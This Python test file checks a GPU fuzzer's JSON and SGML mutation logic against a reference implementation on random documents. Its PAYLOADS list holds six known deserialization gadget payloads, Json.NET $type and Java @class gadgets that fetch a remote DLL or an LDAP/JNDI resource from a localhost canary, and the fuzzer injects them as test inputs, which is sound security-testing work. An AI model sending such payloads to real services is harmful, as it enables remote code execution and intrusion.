"""The device mutates SGML / JSON documents without building the reference's AST: elements are token (atom) ranges in
source order and the structural mutations are range plans (erlamsa_b200/csrc/eb_mut_sgml.cuh, eb_mut_json.cuh). This
file restates that formulation in Python, line for line, and checks it against the oracle's AST implementation on
thousands of random documents -- on the CPU, far beyond the sample sizes of the GPU parity tests. Draws come from the
oracle's own AS183 so both sides consume the same stream. Mutations that open a nested scheduler round (inner text)
are outside the model and skipped."""
import ctypes as C
import random

import oracle_lib as O

L = O.lib()
L.eo_rnd_seed.argtypes = [C.c_int64, C.c_int64, C.c_int64]
L.eo_rnd_rand.argtypes = [C.c_uint64]
L.eo_rnd_rand.restype = C.c_uint64
L.eo_rnd_erand.argtypes = [C.c_uint64]
L.eo_rnd_erand.restype = C.c_uint64
L.eo_rnd_uniform.restype = C.c_double


def rand(n):
    return int(L.eo_rnd_rand(n)) if n else 0


def erand(n):
    return int(L.eo_rnd_erand(n)) if n else 0


SSRF = b"://localhost:51234/"
PAYLOADS = [
    (b'{"__type":"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35","Resources":{"__type":"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35","Source":"http~sJsonDotNet/Xamlpayload"}}'),
    (b'{"$type":"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a","Path":"http~sJsonDotNet/RemoteLibrary.dll"}'),
    (b'{"$type":"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089","DataMember":"HelpText","dataSource":{"$type":"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a","Path":"http~sJsonDotNet/RemoteLibrary.dll"}}'),
    (b'{"@class":"org.hibernate.jmx.StatisticsService","sessionFactoryJNDIName":"ldap~suid=somename,ou=someou,dc=somedc"}'),
    (b'{"@class":"com.sun.rowset.JdbcRowSetImpl", "dataSourceName":"ldap:~suid=somename,ou=someou,dc=somed c", "autoCommit":true}'),
    (b'{"@class":" com.atomikos.icatch.jta.RemoteClientUserTransaction", "name_":"ldap~suid=somename,ou=someou,dc=somedc", "providerUrl_":"ldap~s"}'),
]

# ------------------------------------------------------------------ JSON: atoms (js_tokenize in eb_mut_nested.cuh)
WS = b" \t\n\r"
SEP = b" \n\r\t,]}:"


class Throw(Exception):
    pass


def js_atoms(S):
    """returns (atoms, ntop, irregular); atoms = (kind, a, b) in source order"""
    atoms, stk, i, n, ntop, irregular = [], ["VALUE"], 0, len(S), 0, False

    def push_value():
        nonlocal ntop
        while True:
            if not stk:
                ntop += 1
                return
            h = stk[-1]
            if h in ("ELEMENTS", "MEMBERS"):
                return
            if h == "PAIR_DELIM":
                stk.pop(); stk.append("PAIR_START"); stk.append("PAIR_DELIM")
                return
            if h == "PAIR_END" and len(stk) >= 2 and stk[-2] == "PAIR_START":
                stk.pop(); stk.pop()
                continue
            raise Throw()

    while True:
        while i < n and S[i] in WS:
            i += 1
        if i >= n:
            return atoms, ntop, irregular
        if not stk:
            raise Throw()
        top = stk[-1]
        ch = S[i:i + 1]
        if top == "ARRAY":
            stk[-1] = "ARRAY_END"
            if ch == b"]":
                atoms.append(("]", i, i + 1)); i += 1; stk.pop(); push_value(); continue
            stk.append("ELEMENTS"); stk.append("VALUE"); continue
        if top == "ELEMENTS":
            if ch == b"]" and len(stk) >= 2 and stk[-2] == "ARRAY_END":
                atoms.append(("]", i, i + 1)); i += 1; stk.pop(); stk.pop(); push_value(); continue
            if ch == b",":
                atoms.append((",", i, i + 1)); i += 1; stk.append("VALUE"); continue
            raise Throw()
        if top == "OBJECT":
            stk[-1] = "OBJECT_END"
            if ch == b"}":
                atoms.append(("}", i, i + 1)); i += 1; stk.pop(); push_value(); continue
            stk.append("MEMBERS"); stk.append("PAIR"); continue
        if top == "MEMBERS":
            if ch == b"}" and len(stk) >= 2 and stk[-2] == "OBJECT_END":
                atoms.append(("}", i, i + 1)); i += 1; stk.pop(); stk.pop(); push_value(); continue
            if ch == b",":
                atoms.append((",", i, i + 1)); i += 1; stk.append("PAIR"); continue
            raise Throw()
        if top == "PAIR":
            stk.pop()
            if ch == b":" and stk and stk[-1] == "PAIR_DELIM":
                irregular = True; i += 1; stk[-1] = "PAIR_END"; stk.append("VALUE"); continue
            stk.append("PAIR_DELIM"); stk.append("VALUE"); continue
        if top == "PAIR_DELIM":
            if ch == b":":
                atoms.append((":", i, i + 1)); i += 1; stk[-1] = "PAIR_END"; stk.append("VALUE"); continue
            irregular = True
            stk.append("PAIR_DELIM"); stk.append("VALUE"); continue
        assert top == "VALUE", top
        stk.pop()
        if ch == b"[":
            atoms.append(("[", i, i + 1)); i += 1; stk.append("ARRAY"); continue
        if ch == b"{":
            atoms.append(("{", i, i + 1)); i += 1; stk.append("OBJECT"); continue
        for lit in (b"true", b"false", b"null"):
            if S.startswith(lit, i):
                atoms.append(("const", i, i + len(lit))); push_value(); i += len(lit)
                break
        else:
            if ch == b'"':
                q = S.find(b'"', i + 1)
                if q < 0:
                    atoms.append(("junk", i + 1, n)); push_value(); i = n; continue
                atoms.append(("str", i + 1, q)); push_value(); i = q + 1; continue
            if S[i] in SEP:
                raise Throw()
            j = i
            while j < n and S[j] not in SEP:
                j += 1
            atoms.append(("num", i, j)); push_value(); i = j
        continue


def js_elements(atoms):
    """js_build: elements in pre-order: dict(lo, hi, val, ct, kind, slot)"""
    els, st, V, CT = [], [], 0, 0

    def new_el(lo, kind, slot, in_key):
        nonlocal V, CT
        if not in_key:
            V += 1
        if kind == "cont":
            CT += 1
        els.append(dict(lo=lo, hi=lo, val=0 if in_key else V, ct=CT if kind == "cont" else 0, kind=kind, slot=slot))
        return len(els) - 1

    def value_done(hi):
        if not st:
            return
        f = st[-1]
        if not f["obj"]:
            return
        if f["phase"] == 0:
            f["phase"] = 1
        else:
            els[f["pair"]]["hi"] = hi; f["phase"] = 0

    for i, (k, a, b) in enumerate(atoms):
        if k in (",", ":"):
            continue
        if k in ("]", "}"):
            f = st.pop(); els[f["el"]]["hi"] = i; value_done(i); continue
        slot, in_key = "top", False
        if st:
            f = st[-1]; in_key = f["in_key"]
            if not f["obj"]:
                slot = "list"
            elif f["phase"] == 0:
                f["pair"] = new_el(i, "pair", "list", in_key); slot = "pkey"
            else:
                slot = "pval"
        key_ctx = in_key or slot == "pkey"
        if k in ("[", "{"):
            st.append(dict(el=new_el(i, "cont", slot, key_ctx), obj=k == "{", in_key=key_ctx, pair=0, phase=0)); continue
        new_el(i, "scalar", slot, key_ctx)
        value_done(i)
    assert not st
    return els, V, CT


def js_text(S, atoms, lo, hi):
    out = b""
    for (k, a, b) in atoms[lo:hi + 1]:
        if k == "str":
            out += S[a - 1:b + 1]
        elif k == "junk":
            out += S[a - 1:] + b'""'
        else:
            out += S[a:b]
    return out


def js_model(S, seed):
    """None: outside the model (inner values, irregular documents, scalars); else (output, delta)"""
    try:
        atoms, ntop, irregular = js_atoms(S)
    except Throw:
        return S, -1.0
    if ntop != 1 or not atoms or atoms[0][0] not in ("[", "{") or irregular:
        return None
    els, NV, NT = js_elements(atoms)
    N = len(els)
    L.eo_rnd_seed(*seed)
    which = rand(21)
    last = len(atoms) - 1
    T = lambda lo, hi: js_text(S, atoms, lo, hi) if lo <= hi else b""   # noqa: E731
    by_val = lambda w: next(i for i, e in enumerate(els) if e["val"] == w)   # noqa: E731
    D = 1.0
    if which in (0, 4):
        r1, r2 = erand(NV), erand(NV)
        a, b = els[by_val(r1)], els[by_val(r2)]
        if which == 0:
            if by_val(r1) == by_val(r2):
                out = T(0, last)
            elif b["lo"] >= a["lo"] and b["hi"] <= a["hi"]:
                out = T(0, a["lo"] - 1) + T(b["lo"], b["hi"]) + T(a["hi"] + 1, last)
            elif a["lo"] >= b["lo"] and a["hi"] <= b["hi"]:
                out = T(0, b["lo"] - 1) + T(a["lo"], a["hi"]) + T(b["hi"] + 1, last)
            elif a["lo"] < b["lo"]:
                out = T(0, a["lo"] - 1) + T(b["lo"], b["hi"]) + T(a["hi"] + 1, b["lo"] - 1) + T(a["lo"], a["hi"]) + T(b["hi"] + 1, last)
            else:
                out = T(0, b["lo"] - 1) + T(a["lo"], a["hi"]) + T(b["hi"] + 1, a["lo"] - 1) + T(b["lo"], b["hi"]) + T(a["hi"] + 1, last)
        else:
            wrap = b["slot"] in ("pval", "top")
            out = T(0, b["lo"] - 1) + (b"[" if wrap else b"") + T(b["lo"], b["hi"]) + b"," + T(a["lo"], a["hi"]) + (b"]" if wrap else b"") + T(b["hi"] + 1, last)
    elif which in (1, 3):
        rr = erand(NV)
        times = 1 if which == 1 else erand(100)
        t = els[by_val(rr)]
        wrap = t["slot"] in ("pval", "top")
        out = T(0, t["lo"] - 1) + (b"[" if wrap else b"") + T(t["lo"], t["hi"]) + (b"," + T(t["lo"], t["hi"])) * times + (b"]" if wrap else b"") + T(t["hi"] + 1, last)
    elif which == 2:
        D = -2.0
        rr = erand(NT)
        s0 = next(i for i, e in enumerate(els) if e["ct"] == rr)
        sub = sum(1 for e in els[s0:] if e["lo"] <= els[s0]["hi"])
        e = erand(sub - 1) + 1
        if e == 1:
            out = T(0, last)
        else:
            s, x = els[s0], els[s0 + e - 1]
            out = T(0, s["lo"] - 1) + T(s["lo"], x["lo"] - 1) * 4 + T(x["lo"], x["hi"]) + T(x["hi"] + 1, s["hi"]) * 4 + T(s["hi"] + 1, last)
    elif which == 5:
        D = -2.0
        out = PAYLOADS[rand(6)].replace(b"~s", SSRF)
    else:
        return None
    if out == S:
        return S, -1.0
    return out, D + len(out) // 20480


def random_json(r, depth=0):
    k = r.randint(0, 9)
    if depth > 3 or k < 4:
        return r.choice([b"1", b"-20", b"true", b"null", b'"s"', b'"a b"', b"x1", b'""', b"false", b"12345678901234567890"])
    ws = lambda: r.choice([b"", b"", b" ", b"\n"])   # noqa: E731
    items = []
    for _ in range(r.randint(0, 4)):
        v = random_json(r, depth + 1)
        if k < 7:
            key = random_json(r, depth + 2) if r.random() < 0.2 else r.choice([b'"k"', b'"key2"', b"7"])
            items.append(key + ws() + b":" + ws() + v)
        else:
            items.append(v)
    body = (b"," + ws()).join(items)
    return (b"{" + ws() + body + ws() + b"}") if k < 7 else (b"[" + ws() + body + b"]")


def test_json_atom_stream_formulation_matches_the_ast():
    r = random.Random(11)
    checked = 0
    for t in range(20000):
        doc = random_json(r)
        if doc[:1] not in (b"[", b"{"):
            continue
        if r.random() < 0.1:
            doc = doc[:r.randint(0, len(doc))]           # truncated documents: EOF inside a structure
        seed = (t + 1, t * 5 + 2, t * 11 + 3)
        m = js_model(doc, seed)
        if m is None:
            continue
        out, d, rc = O.run_mutator("js", doc, seed)
        if rc == 2:                                       # a badmatch in the reference kills the case; the model has no such path
            continue
        assert rc == 0
        assert (out, d) == m, (doc, seed, out, d, m)
        checked += 1
    assert checked > 2500


# ------------------------------------------------------------------ SGML (eb_mut_sgml.cuh)
def is_ws(c):
    return c in b" \r\n\t"


def is_ev(c):
    return c in b" \r\n\t>="


class Err(Exception):
    pass


def sg_scan_tag(S, i):
    n = len(S)

    def ws(q):
        while q < n and is_ws(S[q]):
            q += 1
        return q
    st, tag0, tag1, a0, a1, v0, pars = "TAGN", i, i, 0, 0, 0, []
    while True:
        if st == "TAGN":
            if tag1 == tag0 and i < n:
                if S.startswith(b"!--", i):
                    st = "COMMENT"; i += 3; tag0 = i; continue
                if S[i:i + 1] == b"!":
                    st = "BANG"; i = ws(i + 1); tag0 = i; continue
                if S[i:i + 1] == b"?":
                    st = "QUE"; i = ws(i + 1); tag0 = i; continue
                if S[i:i + 1] == b"/":
                    st = "ENDTAG"; i = ws(i + 1); tag0 = tag1 = i; continue
            if S.startswith(b"/>", i):
                return ("sc", S[tag0:tag1], pars), i + 2
            if i < n and is_ev(S[i]):
                st = "ATTR"; a0 = a1 = 0; i = ws(i); continue
            if i < n:
                i += 1; tag1 = i; continue
            raise Throw()
        if st == "BANG":
            q = S.find(b">", i)
            if q < 0:
                raise Throw()
            return ("bang", S[tag0:q], []), q + 1
        if st == "COMMENT":
            q = S.find(b"-->", i)
            if q < 0:
                raise Err()
            return ("comment", S[tag0:q], []), q + 3
        if st == "QUE":
            q = S.find(b"?>", i)
            if q < 0:
                raise Throw()
            return ("que", S[tag0:q], []), q + 2
        if st == "ETAG":
            if S.startswith(b"/>", i):
                return ("sc", S[tag0:tag1], pars), i + 2
            if S[i:i + 1] == b">":
                return ("open", S[tag0:tag1], pars), i + 1
            raise Throw()
        if st == "ENDTAG":
            if i < n and is_ev(S[i]):
                st = "ENDTAG_GT"; i = ws(i); continue
            if i < n:
                i += 1; tag1 = i; continue
            raise Throw()
        if st == "ENDTAG_GT":
            if S[i:i + 1] == b">":
                return ("close", S[tag0:tag1], []), i + 1
            raise Throw()
        if st == "ATTR":
            ev = (i < n and is_ev(S[i])) or S.startswith(b"/>", i)
            if a1 == a0 and ev:
                st = "ETAG"; continue
            if ev:
                st = "EATT"; i = ws(i); continue
            if i < n:
                if a1 == a0:
                    a0 = i
                i += 1; a1 = i; continue
            raise Throw()
        if st == "EATT":
            if S[i:i + 1] == b"=":
                st = "VAL"; i = ws(i + 1); continue
            pars.append((S[a0:a1], b"", b"")); a0 = a1 = 0; st = "ATTR"; i = ws(i); continue
        if st == "VAL":
            if S[i:i + 1] == b"'":
                st = "SQ"; i += 1; v0 = i; continue
            if S[i:i + 1] == b'"':
                st = "DQ"; i += 1; v0 = i; continue
            st = "UQ"; v0 = i; continue
        if st in ("SQ", "DQ"):
            qc = b"'" if st == "SQ" else b'"'
            q = S.find(qc, i)
            if q < 0:
                raise Throw()
            pars.append((S[a0:a1], S[v0:q], qc)); a0 = a1 = 0; st = "ATTR"; i = ws(q + 1); continue
        if st == "UQ":
            if (i < n and is_ev(S[i])) or S.startswith(b"/>", i):
                pars.append((S[a0:a1], S[v0:i], b"")); a0 = a1 = 0; st = "ATTR"; i = ws(i); continue
            if i < n:
                i += 1; continue
            raise Throw()


def sg_tokens(S):
    n = len(S)

    def ws(q):
        while q < n and is_ws(S[q]):
            q += 1
        return q
    lt = S.find(b"<")
    if lt < 0:
        raise Throw()
    cur, p = sg_scan_tag(S, ws(lt + 1))
    toks = []
    while True:
        prefix, t2 = b"", None
        while True:
            q = S.find(b"<", p)
            if q < 0:
                toks.append(cur); toks.append(("eoftext", prefix + S[p:], []))
                return toks
            e = ws(q + 1)
            try:
                t2, nx = sg_scan_tag(S, e)
                toks.append(cur); toks.append(("text", prefix + S[p:q], []))
                cur, p = t2, nx
                break
            except (Throw, Err):
                prefix += S[p:q] + b"<"; p = e


def lower_l1(b):
    return bytes(c + 32 if (65 <= c <= 90 or 0xC0 <= c <= 0xD6 or 0xD8 <= c <= 0xDE) else c for c in b)


def sg_fold_tok(t, order=None):
    k, a, pars = t[0], t[1], t[2]

    def params(ps):
        o = b""
        for (nm, v, qc) in ps:
            o += b" " + nm + ((b"=" + qc + v + qc) if v else b"")
        return o
    if k == "open":
        return b"<" + a + params([pars[i] for i in order] if order else pars) + b">"
    if k == "sc":
        return b"<" + a + params(pars) + b" />"
    if k == "close":
        return b"</" + a + b">"
    if k == "bang":
        return b"<!" + a + b">"
    if k == "comment":
        return b"<!--" + a + b"-->"
    if k == "que":
        return b"<?" + a + b"?>"
    return a


def sg_model(S, seed):
    if O_binarish(S):
        return S, -1.0
    try:
        toks = sg_tokens(S)
    except Throw:
        return S, -1.0
    except Err:
        return "died"
    # pairing
    match, matched_close, stk = {}, set(), []
    for i, t in enumerate(toks):
        if t[0] == "open":
            stk.append(i)
        elif t[0] == "close":
            j = len(stk)
            while j > 0 and lower_l1(toks[stk[j - 1]][1]) != lower_l1(t[1]):
                j -= 1
            if j:
                match[stk[j - 1]] = i; match[i] = stk[j - 1]; matched_close.add(i); del stk[j - 1:]
    is_elem = lambda i: (toks[i][0] == "close" and i not in matched_close) or (toks[i][0] in ("text", "eoftext") and toks[i][1] != b"") or toks[i][0] in ("open", "sc", "bang", "comment", "que")   # noqa: E731
    elems = [i for i in range(len(toks)) if is_elem(i)]
    tags = [i for i in range(len(toks)) if toks[i][0] == "open" and i in match]
    N, NT = len(elems), len(tags)
    hi = lambda i: match[i] if (toks[i][0] == "open" and i in match) else i   # noqa: E731
    last = len(toks) - 1
    T = lambda lo, h: b"".join(sg_fold_tok(toks[i]) for i in range(lo, h + 1)) if lo <= h else b""   # noqa: E731
    L.eo_rnd_seed(*seed)
    which = rand(12)
    D = 1.0
    if which in (0, 4, 7):
        r1, r2 = erand(N), erand(N)
        alo, blo = elems[r1 - 1], elems[r2 - 1]
        ahi, bhi = hi(alo), hi(blo)
        if which == 0:
            if alo == blo:
                out = T(0, last)
            elif blo >= alo and bhi <= ahi:
                out = T(0, alo - 1) + T(blo, bhi) + T(ahi + 1, last)
            elif alo >= blo and ahi <= bhi:
                out = T(0, blo - 1) + T(alo, ahi) + T(bhi + 1, last)
            elif alo < blo:
                out = T(0, alo - 1) + T(blo, bhi) + T(ahi + 1, blo - 1) + T(alo, ahi) + T(bhi + 1, last)
            else:
                out = T(0, blo - 1) + T(alo, ahi) + T(bhi + 1, alo - 1) + T(blo, bhi) + T(ahi + 1, last)
        elif which == 7 and ahi != alo:
            out = T(0, blo - 1) + sg_fold_tok(toks[alo]) + T(blo, bhi) + sg_fold_tok(toks[ahi]) + T(bhi + 1, last)
        else:
            out = T(0, bhi) + T(alo, ahi) + T(bhi + 1, last)
    elif which in (1, 3):
        rr = erand(N)
        times = 1 if which == 1 else erand(100)
        alo = elems[rr - 1]
        out = T(0, hi(alo)) + T(alo, hi(alo)) * times + T(hi(alo) + 1, last)
    elif which == 2:
        D = -2.0
        if NT == 0:
            out = T(0, last)
        else:
            rr = erand(NT)
            alo = tags[rr - 1]; ahi = match[alo]
            sub = [i for i in range(alo, ahi + 1) if is_elem(i)]
            e = erand(len(sub) - 1) + 1
            cnt = erand(int(1000.0 / (100.0 + len(sub))))
            x = sub[e - 1]
            if x == alo:
                out = T(0, last)
            else:
                k = 1 << cnt
                out = T(0, alo - 1) + T(alo, x - 1) * k + T(x, hi(x)) + T(hi(x) + 1, ahi) * k + T(ahi + 1, last)
    elif which == 5:
        rr = erand(NT)
        if rr == 0:
            out = T(0, last)
        else:
            ti = tags[rr - 1]; pars = toks[ti][2]; order = list(range(len(pars)))
            if len(pars) == 2:
                if rand(2) == 1:
                    order = [1, 0]
            else:
                keys = [L.eo_rnd_uniform() for _ in pars]
                order = sorted(order, key=lambda q: keys[q])
            out = T(0, ti - 1) + sg_fold_tok(toks[ti], order) + T(ti + 1, last)
    elif which == 6:
        rr = erand(NT)
        if rr == 0:
            out = T(0, last)
        else:
            alo = tags[rr - 1]; ahi = match[alo]
            rand(1)
            out = T(0, alo - 1) + sg_fold_tok(toks[alo])
            h = ahi
            while h > alo + 1:
                cend = h - 1
                cbeg = match[cend] if cend in matched_close else cend
                out += T(cbeg, cend); h = cbeg
            out += T(ahi + 1, last)
    else:
        return None                       # xmlns edits and inner text are not modelled here
    if out == S:
        return S, -1.0
    return out, D + len(out) // 20480


def O_binarish(b):
    for i in range(len(b) + 1):
        left = len(b) - i
        if left >= 3 and b[i:i + 3] == b"\xef\xbb\xbf":
            return False
        if left >= 2 and b[i:i + 2] == b"\xfe\x0f":
            return False
        if i == 8 or left == 0:
            return False
        if b[i] == 0 or b[i] & 128:
            return True
    return False


def random_sgml(r):
    tags = [b"a", b"B", b"p", b"div"]
    out = b""
    for _ in range(r.randint(1, 30)):
        k = r.randint(0, 11)
        t = r.choice(tags)
        if k < 3:
            out += b"<" + t + r.choice([b"", b" x='1'", b' y = "2" z', b" k=v", b" a b"]) + b">"
        elif k < 6:
            out += b"</" + t + r.choice([b"", b" "]) + b">"
        elif k == 6:
            out += b"<" + t + r.choice([b"/>", b" q='1'/>"])
        elif k == 7:
            out += r.choice([b"<!-- c -->", b"<?q?>", b"<!D x>"])
        elif k == 8:
            out += r.choice([b"<", b"< x", b"<a b='", b"x<y"])
        else:
            out += r.choice([b"text", b" ", b"1 < 2 > 3", b"words and words"])
    return out


def test_sgml_token_stream_formulation_matches_the_ast():
    r = random.Random(17)
    checked = 0
    for t in range(6000):
        doc = random_sgml(r)
        seed = (t + 1, t * 3 + 7, t * 13 + 1)
        m = sg_model(doc, seed)
        if m is None:
            continue
        out, d, rc = O.run_mutator("sgm", doc, seed)
        if m == "died":
            assert rc == 2
            continue
        assert rc == 0, (doc, seed)
        assert (out, d) == m, (doc, seed, out, d, m)
        checked += 1
    assert checked > 2500
